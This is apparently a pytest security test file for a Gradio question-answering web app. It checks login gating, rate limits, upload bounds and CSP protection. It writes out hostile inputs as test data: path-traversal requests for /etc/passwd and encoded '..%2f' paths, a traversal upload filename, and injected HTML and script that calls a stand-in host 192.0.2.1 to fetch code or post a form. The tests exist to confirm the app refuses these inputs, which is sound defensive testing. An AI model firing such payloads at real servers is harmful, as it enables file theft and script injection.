"""The real server with a login: what answers without one, what is served with one, and the page in a real browser."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import browsers as visitors
import httpx
import pytest
from gradio_client import Client
from gradio_client.exceptions import AuthenticationError
from playwright.sync_api import Browser

from rag.assembly import open_writer
from rag.index.documents import find_files
from rag.settings import load_settings
from ui.access.accounts import set_password
from ui.server import Server

NAME, EDITOR, PASSWORD = "한울", "가람", "correct horse"
DOCUMENT = "# 달빛 도서관\n\n달빛 도서관은 2019년 5월 4일에 문을 열었다. 달빛 도서관의 첫 관장은 정소라이다.\n"
QUESTION = "달빛 도서관은 언제 문을 열었나?"
PER_MINUTE = 5


@dataclass(frozen=True)
class Served:
    url: str
    routes: list[tuple[str, str]]  # method and path of everything that Gradio has
    folder: Path


@pytest.fixture(scope="module")
def users(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("users") / "users"
    set_password(path, NAME, PASSWORD)
    set_password(path, EDITOR, PASSWORD, "editor")
    return path


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, users: Path) -> Iterator[Served]:
    """The real page with a login, over one small document."""
    folder = tmp_path_factory.mktemp("guarded")
    (folder / "library.md").write_text(DOCUMENT, encoding="utf-8")
    settings = load_settings(home=folder / "home", port=0, auth=users, questions_per_minute=PER_MINUTE, max_file_mb=1)
    with open_writer(settings) as writer:
        list(writer.ingest(find_files([folder / "library.md"]).files))
        writer.finish()
    server = Server(settings)
    yield Served(server.url.rstrip("/"), list(_routes(server.routes)), folder)
    server.close()


def _routes(routes: list[Any]) -> Iterator[tuple[str, str]]:
    """Method and path of every route, and of those in routers inside; ``x`` where a path has a parameter."""
    for route in routes:
        if (inner := getattr(route, "original_router", None)) is not None:
            yield from _routes(inner.routes)
        else:
            for method in sorted(getattr(route, "methods", None) or ()):
                yield method, re.sub(r"{[^}]*}", "x", route.path)


@pytest.mark.slow
def test_without_a_login_nothing_of_gradio_answers(served: Served) -> None:
    assert len(served.routes) > 80 and ("POST", "/gradio_api/queue/join") in served.routes
    with httpx.Client(base_url=served.url, trust_env=False, timeout=10) as client:
        for method, path in served.routes:
            answer = client.request(method, path, json={} if method == "POST" else None)
            if path.rstrip("/") in ("/gradio_api/startup-events", "/favicon.ico") and method == "GET":
                continue
            if path in ("/", "/logout"):
                assert (answer.status_code, answer.headers["location"]) == (303, "login"), (method, path)
            elif path == "/login":
                assert answer.status_code == 401
            else:
                assert answer.status_code in (401, 404), (method, path, answer.status_code)
                assert list(answer.json()) == ["detail"] if method != "HEAD" else True
        for path in ("/assets/x.js", "/static/js/iframeResizer.contentWindow.min.js", "/theme.css"):
            assert client.get(path).status_code == 401
        stolen = client.get("/config", headers={"Cookie": "access-token-unsecure-x=x; mundap-session-1=x"})
        assert stolen.status_code == 401


@pytest.mark.slow
def test_with_a_login_nothing_is_served_from_outside_and_uploads_are_bounded(served: Served, users: Path) -> None:
    with httpx.Client(base_url=served.url, trust_env=False, timeout=10) as client:
        client.post("/login", data={"username": NAME, "password": PASSWORD}).raise_for_status()
        for path in ("/etc/passwd", users, served.folder / "library.md", "../pyproject.toml", "x/../../etc/passwd"):
            assert client.get(f"/gradio_api/file={path}").status_code in (403, 404), path
        assert client.get("/static/..%2f..%2f..%2f..%2fetc%2fpasswd").status_code in (403, 404)
        assert client.post("/gradio_api/upload", files={"files": ("a.md", b"x")}).status_code == 403
    with httpx.Client(base_url=served.url, trust_env=False, timeout=10) as client:
        client.post("/login", data={"username": EDITOR, "password": PASSWORD}).raise_for_status()
        assert client.post("/gradio_api/upload", files={"files": ("a.md", b"x" * 3_000_000)}).status_code == 413
        stored = client.post("/gradio_api/upload", files={"files": ("../../../up.md", b"x")}).json()
        assert Path(stored[0]).name == "up.md" and ".." not in stored[0]
        assert not (served.folder / "up.md").exists()


@pytest.mark.slow
def test_a_program_signs_in_asks_and_meets_the_limit(served: Served) -> None:
    with pytest.raises(AuthenticationError):
        Client(served.url, verbose=False)
    with pytest.raises(AuthenticationError):
        Client(served.url, auth=(NAME, "wrong horse"), verbose=False)
    client = Client(
        served.url, auth=(NAME, PASSWORD), verbose=False, analytics_enabled=False, httpx_kwargs={"timeout": 300}
    )
    answers = [client.predict(QUESTION, api_name="/ask") for _ in range(PER_MINUTE)]
    assert all("2019년 5월 4일" in answer["text"] for answer in answers)
    cookies = client.cookies
    late = httpx.post(
        f"{served.url}/gradio_api/call/v2/ask", json={"question": QUESTION}, cookies=cookies, trust_env=False
    )
    assert late.status_code == 429 and late.json()["detail"].startswith("Too many questions")


@pytest.mark.slow
def test_a_person_signs_in_asks_and_is_told_to_wait(browser: Browser, served: Served, users: Path) -> None:
    set_password(users, "browser", PASSWORD)
    page = visitors.tab(browser, visitors.WIDE, locale="ko-KR")
    faults: list[str] = []
    page.on("console", lambda message: faults.append(message.text) if message.type == "error" else None)
    page.goto(served.url)
    assert page.title().startswith("로그인")
    page.fill("input[name=username]", "browser")
    page.fill("input[name=password]", PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_selector("#next .example")
    assert page.locator("#tab-evaluation-button").is_hidden()  # a reader may not evaluate
    for number in range(1, PER_MINUTE + 1):
        visitors.ask(page, QUESTION, number)
    assert faults == []
    page.fill("#question textarea", QUESTION)
    page.press("#question textarea", "Enter")
    page.wait_for_selector("text=질문이 너무 잦습니다")
    assert page.input_value("#question textarea") == QUESTION
    page.context.close()


@pytest.mark.slow
def test_a_script_that_gets_into_the_page_does_not_run_and_asks_nobody(
    browser: Browser, served: Served, users: Path
) -> None:
    set_password(users, "intruder", PASSWORD)
    page = visitors.tab(browser, visitors.WIDE, locale="en-GB")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: asked.remove(request.url) if request.failure == "csp" else None)
    page.goto(served.url)
    page.fill("input[name=username]", "intruder")
    page.fill("input[name=password]", PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_selector('.conversation[lang="en"] .welcome')
    page.evaluate(
        """() => {
          document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="document.title='ran'">
            <img src="http://192.0.2.1/a.png"><iframe src="http://192.0.2.1/b"></iframe>
            <form action="http://192.0.2.1/c"><button id="leak">x</button></form>`);
          const script = document.createElement("script");
          script.textContent = "document.title = 'ran'";
          document.body.append(script);
          const remote = document.createElement("script");
          remote.src = "http://192.0.2.1/d.js";
          document.body.append(remote);
          fetch("http://192.0.2.1/e").catch(() => {});
          document.getElementById("leak").click();
        }"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("document.title") == "mundap 문답"
    assert not [url for url in asked if "192.0.2.1" in url]
    page.context.close()
